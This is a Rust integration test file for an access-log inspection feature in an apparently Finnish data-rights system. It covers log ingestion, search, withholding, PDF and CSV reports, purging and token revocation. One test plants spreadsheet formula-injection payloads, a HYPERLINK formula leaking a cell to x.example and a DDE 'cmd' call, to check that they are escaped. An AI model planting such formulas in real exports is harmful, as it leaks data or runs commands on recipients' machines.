//! Log inspection end to end: ingest tokens, ingestion with per-line rejection and
//! idempotency, the grouped search with misuse highlighting and withholding, the report
//! documents, and the purge of old events.

mod common;

use common::TestApp;
use reqwest::StatusCode;
use serde_json::{json, Value};

const SUBJECT: &str = "131052-308T";
const OTHER: &str = "010594Y9032";

fn event(id: &str, at: &str, subject: &str, user: &str, action: &str) -> Value {
    json!({ "event_id": id, "occurred_at": at, "subject_id": subject, "user_name": user,
            "user_title": "sosiaaliohjaaja", "unit": "Aikuissosiaalityö", "action": action,
            "basis": "asiakkuus" })
}

async fn ingest(app: &TestApp, token: &str, register: &str, body: String) -> (StatusCode, Value) {
    app.send(
        app.client
            .post(format!(
                "{}/api/v1/access-log/events?register={register}",
                app.base
            ))
            .header("content-type", "application/x-ndjson")
            .body(body),
        Some(token),
    )
    .await
}

async fn ingest_token(app: &TestApp) -> String {
    let (s, b) = app
        .post(
            "/api/v1/ingest-tokens",
            Some(&app.org.admin),
            json!({ "source": "Apotti" }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    b["token"].as_str().unwrap().to_string()
}

fn ndjson(events: &[Value]) -> String {
    events.iter().map(|e| e.to_string() + "\n").collect()
}

async fn log_request(app: &TestApp, details: Value) -> String {
    let (s, b) = app
        .post(
            "/api/v1/requests",
            Some(&app.org.staff),
            json!({ "kind": "log_inspection", "language": "fi", "channel": "letter", "received_on": "2026-11-02",
                    "registers": ["turvakoti"],
                    "subject": { "name": "Maija Meikäläinen", "personal_id": SUBJECT, "contact_channel": "pick_up" },
                    "details": details }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    b["id"].as_str().unwrap().to_string()
}

#[actix_rt::test]
async fn ingestion_rejects_bad_lines_and_stores_nothing_twice() {
    let app = TestApp::spawn().await;
    // Only the ingest role may send events.
    let (s, _) = ingest(&app, &app.org.staff, "turvakoti", ndjson(&[])).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED);
    let (s, _) = app
        .post(
            "/api/v1/ingest-tokens",
            Some(&app.org.staff),
            json!({ "source": "x" }),
        )
        .await;
    assert_eq!(s, StatusCode::FORBIDDEN);
    let token = ingest_token(&app).await;

    let body = format!(
        "{}{}not json\n{}\n",
        ndjson(&[
            event(
                "e1",
                "2025-03-04T09:15:22+02:00",
                SUBJECT,
                "Matti Esimerkki",
                "view"
            ),
            event(
                "e2",
                "2025-03-04T10:00:00+02:00",
                SUBJECT,
                "Liisa Virtanen",
                "print"
            ),
        ]),
        ndjson(&[event(
            "e3",
            "2025-03-05T10:00:00+02:00",
            "131052-308A",
            "Liisa Virtanen",
            "view"
        )]),
        event(
            "e4",
            "2025-03-05T10:00:00+02:00",
            OTHER,
            "Liisa Virtanen",
            "view"
        )
    );
    let (s, summary) = ingest(&app, &token, "turvakoti", body.clone()).await;
    assert_eq!(s, StatusCode::OK, "{summary}");
    assert_eq!(summary["read"], 5);
    assert_eq!(summary["stored"], 3);
    assert_eq!(summary["rejected"], 2);
    let lines: Vec<i64> = summary["rejections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["line"].as_i64().unwrap())
        .collect();
    assert_eq!(lines, [3, 4]);
    assert!(summary["rejections"][0]["reason"]
        .as_str()
        .unwrap()
        .contains("identity code"));
    assert!(summary["rejections"][1]["reason"]
        .as_str()
        .unwrap()
        .starts_with("not JSON"));

    let (_, again) = ingest(&app, &token, "turvakoti", body).await;
    assert_eq!(again["stored"], 0);
    assert_eq!(again["duplicates"], 3);
    let (s, b) = ingest(&app, &token, "nope", ndjson(&[])).await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");

    // The identity code is not stored anywhere in the events.
    let mut conn = app.ctx.pool.get().unwrap();
    use diesel::prelude::*;
    use rightsdesk::db::schema::access_events::dsl as ev;
    let keys: Vec<Vec<u8>> = ev::access_events
        .select(ev::subject_key)
        .load(&mut conn)
        .unwrap();
    assert_eq!(keys.len(), 3);
    assert!(keys
        .iter()
        .all(|k| k.len() == 16 && !String::from_utf8_lossy(k).contains("131052")));
}

#[actix_rt::test]
async fn events_from_the_future_or_older_than_kept_are_rejected_by_line() {
    let app = TestApp::spawn().await;
    let token = ingest_token(&app).await;
    // The test clock stands at 2026-11-16; events are kept six years.
    let body = ndjson(&[
        event(
            "f1",
            "2026-11-15T12:00:00+02:00",
            SUBJECT,
            "Matti Esimerkki",
            "view",
        ),
        event(
            "f2",
            "2031-01-01T12:00:00+02:00",
            SUBJECT,
            "Matti Esimerkki",
            "view",
        ),
        event(
            "f3",
            "1990-01-01T12:00:00+02:00",
            SUBJECT,
            "Matti Esimerkki",
            "view",
        ),
    ]);
    let (s, summary) = ingest(&app, &token, "turvakoti", body).await;
    assert_eq!(s, StatusCode::OK, "{summary}");
    assert_eq!(summary["stored"], 1, "{summary}");
    let reasons: Vec<(i64, String)> = summary["rejections"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| {
            (
                r["line"].as_i64().unwrap(),
                r["reason"].as_str().unwrap().to_string(),
            )
        })
        .collect();
    assert_eq!(reasons[0], (2, "occurred_at is in the future".to_string()));
    assert_eq!(reasons[1].0, 3);
    assert!(
        reasons[1].1.starts_with("occurred_at is older than"),
        "{reasons:?}"
    );
}

#[actix_rt::test]
async fn the_search_groups_by_day_and_user_highlights_the_suspect_and_withholds_on_request() {
    let app = TestApp::spawn().await;
    let token = ingest_token(&app).await;
    let events = [
        event(
            "a1",
            "2025-03-04T09:00:00+02:00",
            SUBJECT,
            "Matti Esimerkki",
            "view",
        ),
        event(
            "a2",
            "2025-03-04T09:05:00+02:00",
            SUBJECT,
            "Matti Esimerkki",
            "view",
        ),
        event(
            "a3",
            "2025-03-04T09:10:00+02:00",
            SUBJECT,
            "Matti Esimerkki",
            "print",
        ),
        event(
            "a4",
            "2025-03-05T23:30:00+02:00",
            SUBJECT,
            "Liisa Virtanen",
            "view",
        ),
        // Outside the period and someone else's: not in the answer.
        event(
            "a5",
            "2023-01-01T12:00:00+02:00",
            SUBJECT,
            "Liisa Virtanen",
            "view",
        ),
        event(
            "a6",
            "2025-03-04T09:00:00+02:00",
            OTHER,
            "Matti Esimerkki",
            "view",
        ),
    ];
    let (_, s) = ingest(&app, &token, "turvakoti", ndjson(&events)).await;
    assert_eq!(s["stored"], 6);
    // Events in another register the request does not cover are not given either.
    let (_, s) = ingest(
        &app,
        &token,
        "avopalvelut",
        ndjson(&[event(
            "b1",
            "2025-03-04T09:00:00+02:00",
            SUBJECT,
            "Matti Esimerkki",
            "view",
        )]),
    )
    .await;
    assert_eq!(s["stored"], 1);

    let id = log_request(
        &app,
        json!({ "period_from": "2024-11-02", "period_to": "2026-11-01",
        "misuse_suspected": true, "misuse_suspected_user": "Matti Esimerkki" }),
    )
    .await;
    let (s, r) = app
        .post(
            &format!("/api/v1/requests/{id}/log-search"),
            Some(&app.org.staff),
            json!({}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{r}");
    assert_eq!(r["total_events"], 4);
    assert_eq!(r["highlighted_events"], 3);
    let groups = r["groups"].as_array().unwrap();
    assert_eq!(groups.len(), 2);
    assert_eq!(groups[0]["date"], "2025-03-04");
    assert_eq!(groups[0]["count"], 3);
    assert_eq!(groups[0]["actions"], json!({ "print": 1, "view": 2 }));
    assert_eq!(groups[0]["highlighted"], true);
    // 23:30 Helsinki time is still 5 March.
    assert_eq!(groups[1]["date"], "2025-03-05");
    assert_eq!(groups[1]["highlighted"], false);

    let (_, r) = app
        .post(
            &format!("/api/v1/requests/{id}/log-search"),
            Some(&app.org.staff),
            json!({ "withhold_users": ["Liisa Virtanen"], "withhold_events": ["a3"] }),
        )
        .await;
    assert_eq!(r["total_events"], 2);
    assert_eq!(r["withheld_events"], 2);

    // Not a log-inspection request: a clear conflict.
    let (_, other) = app.submit_public(|_| {}).await;
    let (s, _) = app
        .post(
            &format!(
                "/api/v1/requests/{}/log-search",
                other["id"].as_str().unwrap()
            ),
            Some(&app.org.staff),
            json!({}),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT);
}

#[actix_rt::test]
async fn a_search_or_report_body_that_cannot_be_read_is_refused_not_taken_as_none() {
    let app = TestApp::spawn().await;
    let id = log_request(
        &app,
        json!({ "period_from": "2024-11-02", "period_to": "2026-11-01" }),
    )
    .await;
    // A typo in the withholding list must not release the report without withholding.
    let unreadable = [
        (
            "application/json",
            r#"{"withhold_user": ["Matti Esimerkki"]}"#,
            StatusCode::BAD_REQUEST,
        ),
        (
            "application/json",
            r#"{"withhold_users": "Matti Esimerkki"}"#,
            StatusCode::BAD_REQUEST,
        ),
        (
            "application/json",
            r#"{"withhold_users": ["Matti Esimerkki"],}"#,
            StatusCode::BAD_REQUEST,
        ),
        (
            "text/plain",
            r#"{"withhold_users": ["Matti Esimerkki"]}"#,
            StatusCode::UNSUPPORTED_MEDIA_TYPE,
        ),
    ];
    for what in ["log-search", "log-report"] {
        for (content_type, body, expected) in unreadable {
            let (s, problem) = app
                .send(
                    app.client
                        .post(format!("{}/api/v1/requests/{id}/{what}", app.base))
                        .header("content-type", content_type)
                        .body(body),
                    Some(&app.org.staff),
                )
                .await;
            assert_eq!(s, expected, "{what} {content_type} {body}: {problem}");
            assert!(problem["code"].is_string(), "{problem}");
        }
    }
    let (_, docs) = app
        .get(
            &format!("/api/v1/requests/{id}/documents"),
            Some(&app.org.staff),
        )
        .await;
    assert!(
        !docs
            .as_array()
            .unwrap()
            .iter()
            .any(|d| d["kind"].as_str().unwrap().starts_with("log_report")),
        "{docs}"
    );
    // Left out entirely, the body means no withholding.
    let (s, r) = app
        .send(
            app.client
                .post(format!("{}/api/v1/requests/{id}/log-search", app.base)),
            Some(&app.org.staff),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{r}");
}

#[actix_rt::test]
async fn the_report_is_a_pdf_and_a_csv_released_to_the_requester() {
    let app = TestApp::spawn().await;
    let token = ingest_token(&app).await;
    let mut events: Vec<Value> = (0..300)
        .map(|i| {
            event(
                &format!("r{i}"),
                &format!("2025-{:02}-{:02}T10:00:00+02:00", 1 + i % 12, 1 + i % 28),
                SUBJECT,
                &format!("Käyttäjä {}", i % 7),
                "view",
            )
        })
        .collect();
    events.push(json!({ "event_id": "d1", "occurred_at": "2025-06-01T10:00:00+03:00", "subject_id": SUBJECT,
        "user_name": "Åsa Öberg", "user_title": "toimistosihteeri", "unit": "Kirjaamo", "action": "disclose",
        "basis": "virka-apu", "recipient": "Poliisi" }));
    ingest(&app, &token, "turvakoti", ndjson(&events)).await;
    let id = log_request(
        &app,
        json!({ "period_from": "2024-11-02", "period_to": "2026-11-01" }),
    )
    .await;
    // A ground the catalogue does not allow for log data is refused before anything is made.
    let (s, b) = app
        .post(
            &format!("/api/v1/requests/{id}/log-report"),
            Some(&app.org.staff),
            json!({ "withhold_users": ["Käyttäjä 6"], "withheld_ground": "gdpr_17_3_b" }),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    assert_eq!(
        common::field_errors(&b),
        [("withheld_ground".into(), "ground_not_applicable".into())]
    );
    // Without a ground, the log-data request's own rule (Act 703/2023 § 11) is cited.
    let (s, docs) = app
        .post(
            &format!("/api/v1/requests/{id}/log-report"),
            Some(&app.org.staff),
            json!({ "withhold_users": ["Käyttäjä 6"] }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{docs}");
    let kinds: Vec<&str> = docs
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["kind"].as_str().unwrap())
        .collect();
    assert_eq!(kinds, ["log_report", "log_report_csv"]);
    let fetch = |doc: &Value| {
        let url = format!(
            "{}/api/v1/documents/{}",
            app.base,
            doc["id"].as_str().unwrap()
        );
        let client = app.client.clone();
        let token = app.org.staff.clone();
        async move {
            client
                .get(url)
                .bearer_auth(token)
                .send()
                .await
                .unwrap()
                .bytes()
                .await
                .unwrap()
                .to_vec()
        }
    };
    let csv = String::from_utf8(fetch(&docs[1]).await).unwrap();
    assert!(csv.starts_with("date,user_name,user_title,unit,action,basis,recipient,count"));
    assert!(csv.contains("\"Åsa Öberg\",\"toimistosihteeri\",\"Kirjaamo\",\"disclose\",\"virka-apu\",\"Poliisi\",1"), "{csv}");
    assert!(!csv.contains("Käyttäjä 6"), "withheld user is left out");
    let pdf = fetch(&docs[0]).await;
    assert!(pdf.starts_with(b"%PDF-1.7"));
    let text = rightsdesk::pdf::extract_text(&pdf).expect("a readable PDF");
    assert!(
        // Cells wrap, and the extracted text runs row by row across them: "Åsa … Öberg".
        text.contains("Selvitys lokitiedoista")
            && text.contains("Åsa")
            && text.contains("Öberg")
            && text.contains("Poliisi")
            // The action in the client's language, not the system's code.
            && text.contains("Luovutus")
            && !text.contains("disclose"),
        "{text}"
    );
    // No word of the report is broken across lines ("sosiaaliohjaaj-a").
    for word in [
        "toimistosihteeri",
        "Kirjaamo",
        "Toimenpide",
        "Vastaanottaja",
    ] {
        assert!(text.contains(word), "{word} whole in\n{text}");
    }
    assert!(
        text.contains("Lokitietojen antamisesta aiheutuva vakava vaara")
            && text.contains("(703/2023), 11 §"),
        "the withholding and its ground are said\n{text}"
    );
    assert!(!text.contains(SUBJECT), "no identity code in the report");

    // What was left out is refused on the log-data rule's serious-danger ground, so the
    // decision is a partial one that names it (the refusal certificate then lists it).
    app.act_ok(&id, json!({ "action": "start" })).await;
    app.act_ok(
        &id,
        json!({ "action": "verify_identity", "method": "strong_eid" }),
    )
    .await;
    app.assert_completion_needs_partial(&id, "act_703_2023_11")
        .await;
    let (s, b) = app
        .act(
            &id,
            json!({ "action": "complete", "outcome": "partially_fulfilled",
                    "grounds": ["gdpr_15_4"], "explanation": "Osa merkinnöistä jätettiin pois." }),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    // The grounds come from what was withheld; a ground nothing rests on is refused.
    assert_eq!(b["errors"][0]["code"], "ground_not_in_decisions", "{b}");
    assert_eq!(b["errors"][0]["field"], "grounds[0]", "{b}");
    let r = app
        .act_ok(
            &id,
            json!({ "action": "complete", "outcome": "partially_fulfilled",
                    "grounds": ["act_703_2023_11"], "explanation": "Osa merkinnöistä jätettiin pois." }),
        )
        .await;
    assert_eq!(r["state"], "completed", "{r}");
    assert_eq!(r["decision"]["grounds"], json!(["act_703_2023_11"]), "{r}");
}

#[actix_rt::test]
async fn the_report_csv_opens_in_a_spreadsheet_as_text_not_formulas() {
    let app = TestApp::spawn().await;
    let token = ingest_token(&app).await;
    // A client system's log is not ours: anyone who can type a name or unit there can
    // plant a formula for the requester's spreadsheet.
    let planted = json!({ "event_id": "f1", "occurred_at": "2025-06-01T10:00:00+03:00",
        "subject_id": SUBJECT, "user_name": "=HYPERLINK(\"http://x.example/?\"&A1;\"Avaa\")",
        "user_title": "+cmd|' /C calc'!A0", "unit": "-2+3", "action": "@SUM(1)",
        "basis": "asiakkuus", "recipient": "Poliisi" });
    let (s, b) = ingest(&app, &token, "turvakoti", ndjson(&[planted])).await;
    assert_eq!(b["stored"], 1, "{s} {b}");
    let id = log_request(
        &app,
        json!({ "period_from": "2024-11-02", "period_to": "2026-11-01" }),
    )
    .await;
    let (s, docs) = app
        .post(
            &format!("/api/v1/requests/{id}/log-report"),
            Some(&app.org.staff),
            json!({}),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{docs}");
    let csv_doc = docs
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["kind"] == "log_report_csv")
        .unwrap();
    let csv = app
        .client
        .get(format!(
            "{}/api/v1/documents/{}",
            app.base,
            csv_doc["id"].as_str().unwrap()
        ))
        .bearer_auth(&app.org.staff)
        .send()
        .await
        .unwrap()
        .text()
        .await
        .unwrap();
    let row = csv.lines().nth(1).unwrap();
    assert_eq!(
        row,
        r#""2025-06-01","'=HYPERLINK(""http://x.example/?""&A1;""Avaa"")","'+cmd|' /C calc'!A0","'-2+3","'@sum(1)","asiakkuus","Poliisi",1"#
    );
}

#[actix_rt::test]
async fn old_events_are_purged_by_the_scheduler() {
    let app = TestApp::spawn_with(|s| s.logs.log_retention_days = 731).await;
    let token = ingest_token(&app).await;
    ingest(
        &app,
        &token,
        "turvakoti",
        ndjson(&[
            event("old", "2024-01-10T10:00:00+02:00", SUBJECT, "A", "view"),
            event("new", "2025-06-10T10:00:00+03:00", SUBJECT, "A", "view"),
        ]),
    )
    .await;
    rightsdesk::jobs::run_once(app.ctx.clone(), "w")
        .await
        .unwrap();
    let mut conn = app.ctx.pool.get().unwrap();
    assert_eq!(rightsdesk::db::logs::count(&mut conn).unwrap(), 1);
}

/// The CLI's bulk path (a writer thread; on SQLite its own prepared statement, not diesel)
/// stores exactly what the API stores: same columns, same time bucket, duplicates skipped on a re-run.
#[actix_rt::test]
async fn the_bulk_import_stores_what_the_api_stores() {
    use diesel::prelude::*;
    use rightsdesk::db::schema::access_events::dsl as ev;
    use rightsdesk::domain::access_log::{read_events, Format};
    use rightsdesk::services::logs::Importer;

    let app = TestApp::spawn().await;
    let token = ingest_token(&app).await;
    let mut disclosed = event(
        "x",
        "2024-12-31T23:59:59+02:00",
        SUBJECT,
        "Liisa Virtanen",
        "disclose",
    );
    disclosed["recipient"] = json!("Kela");
    let events = [
        event(
            "x",
            "2025-03-04T09:15:22+02:00",
            SUBJECT,
            "Matti Esimerkki",
            "view",
        ),
        disclosed,
    ];
    let with_prefix = |prefix: &str| -> String {
        ndjson(
            &events
                .iter()
                .enumerate()
                .map(|(i, e)| {
                    let mut e = e.clone();
                    e["event_id"] = json!(format!("{prefix}{i}"));
                    e
                })
                .collect::<Vec<_>>(),
        )
    };

    let org_id = app.org_id();
    let bulk = |ctx: &rightsdesk::services::Context| {
        let mut conn = ctx.pool.get().unwrap();
        let mut importer = Importer::new(ctx, &org_id, Some("turvakoti"), Some("Apotti"))
            .unwrap()
            // One event per batch: the hand-over between the threads is exercised too.
            .with_batch(1);
        let sink = rightsdesk::db::log_writer::bulk_sink(&ctx.settings.db_target()).unwrap();
        importer = importer.with_background_writer(
            rightsdesk::db::log_writer::BackgroundWriter::start(sink).unwrap(),
        );
        let input = std::io::Cursor::new(with_prefix("cli-").into_bytes());
        for item in read_events(input, Format::Ndjson) {
            importer.add(&mut conn, item).unwrap();
        }
        importer.finish(&mut conn).unwrap();
        importer.summary
    };
    // A user stored earlier (with an id of the old max + 1 kind) is found, not stored again.
    {
        use rightsdesk::db::schema::log_users::dsl as lu;
        let mut conn = app.ctx.pool.get().unwrap();
        diesel::insert_into(lu::log_users)
            .values((
                lu::id.eq(1_i64),
                lu::org_id.eq(&org_id),
                lu::name.eq("Liisa Virtanen"),
                lu::title.eq("sosiaaliohjaaja"),
                lu::unit.eq("Aikuissosiaalityö"),
            ))
            .execute(&mut conn)
            .unwrap();
    }
    let (_, s) = ingest(&app, &token, "turvakoti", with_prefix("api-")).await;
    assert_eq!(s["stored"], 2);
    let first = bulk(&app.ctx);
    assert_eq!((first.read, first.stored, first.duplicates), (2, 2, 0));
    let again = bulk(&app.ctx);
    assert_eq!((again.read, again.stored, again.duplicates), (2, 0, 2));

    type Row = (
        i64,
        String,
        Vec<u8>,
        i64,
        i64,
        i64,
        String,
        String,
        Option<String>,
        Option<String>,
    );
    let mut conn = app.ctx.pool.get().unwrap();
    let rows: Vec<Row> = ev::access_events
        .select((
            ev::scope,
            ev::event_id,
            ev::subject_key,
            ev::occurred_at,
            ev::bucket,
            ev::user_ref,
            ev::action,
            ev::basis,
            ev::recipient,
            ev::source,
        ))
        .order(ev::event_id)
        .load(&mut conn)
        .unwrap();
    assert_eq!(rows.len(), 4);
    let (api, cli) = rows.split_at(2);
    for (a, c) in api.iter().zip(cli) {
        assert_eq!(a.1.strip_prefix("api-"), c.1.strip_prefix("cli-"));
        let strip = |r: &Row| {
            let mut r = r.clone();
            r.1.clear();
            r
        };
        assert_eq!(strip(a), strip(c));
    }
    assert_eq!(cli[1].8.as_deref(), Some("Kela"));
    assert_eq!(cli[1].5, 1, "Liisa's events point to her earlier row");
    let users: i64 = rightsdesk::db::schema::log_users::table
        .count()
        .get_result(&mut conn)
        .unwrap();
    assert_eq!(
        users, 2,
        "one row per user, however many importers met them"
    );
    assert_eq!(cli[0].4, cli[0].3 / 2_592_000);

    // And the search (which seeks by bucket) finds both copies of each event.
    let id = log_request(
        &app,
        json!({ "period_from": "2024-11-02", "period_to": "2026-11-01" }),
    )
    .await;
    let (s, r) = app
        .post(
            &format!("/api/v1/requests/{id}/log-search"),
            Some(&app.org.staff),
            json!({}),
        )
        .await;
    assert_eq!(s, StatusCode::OK, "{r}");
    assert_eq!(r["total_events"], 4);
}

/// A first import may meet more users in one batch than PostgreSQL takes bind parameters
/// in one statement (65,535 / 5 columns): all of them are stored.
#[actix_rt::test]
async fn a_batch_with_thousands_of_new_users_stores_them_all() {
    use diesel::prelude::*;
    use rightsdesk::domain::access_log::{read_events, Format};
    use rightsdesk::services::logs::Importer;

    let app = TestApp::spawn().await;
    let org_id = app.org_id();
    let mut conn = app.ctx.pool.get().unwrap();
    const USERS: usize = 14_000;
    let body: String = (0..USERS)
        .map(|i| {
            event(
                &format!("u{i}"),
                "2025-03-04T09:15:22+02:00",
                SUBJECT,
                &format!("Käyttäjä {i}"),
                "view",
            )
            .to_string()
                + "\n"
        })
        .collect();
    let mut importer = Importer::new(&app.ctx, &org_id, Some("turvakoti"), None).unwrap();
    for item in read_events(std::io::Cursor::new(body.into_bytes()), Format::Ndjson) {
        importer.add(&mut conn, item).unwrap();
    }
    importer.finish(&mut conn).unwrap();
    assert_eq!(importer.summary.stored, USERS as u64);
    let users: i64 = rightsdesk::db::schema::log_users::table
        .count()
        .get_result(&mut conn)
        .unwrap();
    assert_eq!(users, USERS as i64);
}

#[actix_rt::test]
async fn a_misuse_investigations_finding_is_recorded_and_stated_in_the_answer() {
    let app = TestApp::spawn().await;
    let id = log_request(
        &app,
        json!({ "period_from": "2024-11-02", "period_to": "2026-11-01",
                "misuse_suspected": true, "misuse_suspected_user": "Matti Esimerkki" }),
    )
    .await;
    app.act_ok(
        &id,
        json!({ "action": "verify_identity", "method": "in_person" }),
    )
    .await;
    // The client asked for an investigation: the answer cannot go without its finding.
    let (s, b) = app.act(&id, json!({ "action": "complete" })).await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    assert_eq!(b["code"], "misuse_finding_missing");

    let path = format!("/api/v1/requests/{id}/misuse-finding");
    let (s, b) = app
        .post(
            &path,
            Some(&app.org.staff),
            json!({ "misuse_found": false, "finding": "  ", "on": "2030-01-01" }),
        )
        .await;
    assert_eq!(s, StatusCode::UNPROCESSABLE_ENTITY, "{b}");
    assert_eq!(
        common::field_errors(&b),
        [
            ("finding".into(), "required".into()),
            ("on".into(), "date_in_future".into())
        ]
    );
    let (_, access) = app.submit_public(|_| {}).await;
    let (s, b) = app
        .post(
            &format!(
                "/api/v1/requests/{}/misuse-finding",
                access["id"].as_str().unwrap()
            ),
            Some(&app.org.staff),
            json!({ "misuse_found": false, "finding": "Ei koske." }),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    assert_eq!(b["code"], "not_a_log_inspection");

    let finding = "Matti Esimerkin kaikki käyttökerrat liittyivät asiakkuutesi hoitamiseen.";
    let (s, b) = app
        .post(
            &path,
            Some(&app.org.staff),
            json!({ "misuse_found": true, "finding": "Luonnos, korvataan." }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let (s, b) = app
        .post(
            &path,
            Some(&app.org.staff),
            json!({ "misuse_found": false, "finding": finding, "on": "2026-11-13" }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    assert_eq!(b["concluded_on"], "2026-11-13");

    // Audited, without the text (it names people).
    let (_, events) = app
        .get(&format!("/api/v1/requests/{id}/events"), Some(&app.org.dpo))
        .await;
    let recorded: Vec<&Value> = events
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["action"] == "misuse_finding_recorded")
        .collect();
    assert_eq!(recorded.len(), 2, "{events}");
    assert!(!events.to_string().contains("Matti Esimerkin"), "{events}");

    let r = app.act_ok(&id, json!({ "action": "complete" })).await;
    assert_eq!(r["outcome"], "fulfilled");
    let (_, docs) = app
        .get(
            &format!("/api/v1/requests/{id}/documents"),
            Some(&app.org.staff),
        )
        .await;
    let answer = docs
        .as_array()
        .unwrap()
        .iter()
        .find(|d| d["kind"] == "answer_cover")
        .expect("an answer letter");
    let pdf = app
        .client
        .get(format!(
            "{}/api/v1/documents/{}",
            app.base,
            answer["id"].as_str().unwrap()
        ))
        .bearer_auth(&app.org.staff)
        .send()
        .await
        .unwrap()
        .bytes()
        .await
        .unwrap();
    let text = rightsdesk::pdf::extract_text(&pdf).unwrap();
    for expected in [
        "Selvitys epäillystä väärinkäytöstä",
        "Asiakastietojen väärinkäyttöä ei todettu",
        "13.11.2026",
        finding,
    ] {
        assert!(text.contains(expected), "'{expected}' in\n{text}");
    }
    // The latest finding is stated; the draft is not, and nothing invites a new request.
    assert!(!text.contains("Luonnos"), "{text}");
    assert!(!text.contains("Jos epäilet"), "{text}");

    // Closed: the finding on record is the one the client was told.
    let (s, b) = app
        .post(
            &path,
            Some(&app.org.staff),
            json!({ "misuse_found": true, "finding": "Myöhemmin." }),
        )
        .await;
    assert_eq!(s, StatusCode::CONFLICT, "{b}");
    assert_eq!(b["code"], "request_closed");
}

async fn revoke(app: &TestApp, who: &str, id: &str) -> (StatusCode, Value) {
    app.send(
        app.client
            .delete(format!("{}/api/v1/ingest-tokens/{id}", app.base)),
        Some(who),
    )
    .await
}

/// Tokens are listed without their secrets; a revoked token is refused at its very next
/// use, the others keep working; another organisation cannot see or revoke them.
#[actix_rt::test]
async fn a_revoked_ingest_token_stops_working_at_once() {
    let app = TestApp::spawn().await;
    let token = ingest_token(&app).await;
    let (s, b) = app
        .post(
            "/api/v1/ingest-tokens",
            Some(&app.org.admin),
            json!({ "source": "Pegasos" }),
        )
        .await;
    assert_eq!(s, StatusCode::CREATED, "{b}");
    let kept = b["token"].as_str().unwrap().to_string();
    let line = |id: &str| {
        ndjson(&[event(
            id,
            "2025-03-04T09:15:22+02:00",
            SUBJECT,
            "Matti Esimerkki",
            "view",
        )])
    };
    let (s, b) = ingest(&app, &token, "turvakoti", line("r1")).await;
    assert_eq!(s, StatusCode::OK, "{b}");

    let (s, list) = app.get("/api/v1/ingest-tokens", Some(&app.org.admin)).await;
    assert_eq!(s, StatusCode::OK, "{list}");
    let list = list.as_array().unwrap().clone();
    assert_eq!(list.len(), 2);
    let text = serde_json::to_string(&list).unwrap();
    assert!(!text.contains(&token) && !text.contains(&kept), "{text}");
    assert!(list.iter().all(|t| t["revoked_at"].is_null()));
    let (s, _) = app.get("/api/v1/ingest-tokens", Some(&app.org.staff)).await;
    assert_eq!(s, StatusCode::FORBIDDEN);

    let id = list.iter().find(|t| t["source"] == "Apotti").unwrap()["id"]
        .as_str()
        .unwrap()
        .to_string();
    let other_admin = app.login("admin@muu-kunta.example").await;
    let (s, _) = revoke(&app, &other_admin, &id).await;
    assert_eq!(s, StatusCode::NOT_FOUND, "another organisation's admin");
    let (s, _) = ingest(&app, &token, "turvakoti", line("r2")).await;
    assert_eq!(s, StatusCode::OK, "still working before the revocation");

    let (s, revoked) = revoke(&app, &app.org.admin, &id).await;
    assert_eq!(s, StatusCode::OK, "{revoked}");
    assert!(!revoked["revoked_at"].is_null());
    let (s, _) = ingest(&app, &token, "turvakoti", line("r3")).await;
    assert_eq!(s, StatusCode::UNAUTHORIZED, "revoked: refused at once");
    let (s, _) = ingest(&app, &kept, "turvakoti", line("r4")).await;
    assert_eq!(s, StatusCode::OK, "the other token still works");
    // Revoking again changes nothing.
    let (s, again) = revoke(&app, &app.org.admin, &id).await;
    assert_eq!(s, StatusCode::OK);
    assert_eq!(again["revoked_at"], revoked["revoked_at"]);
}
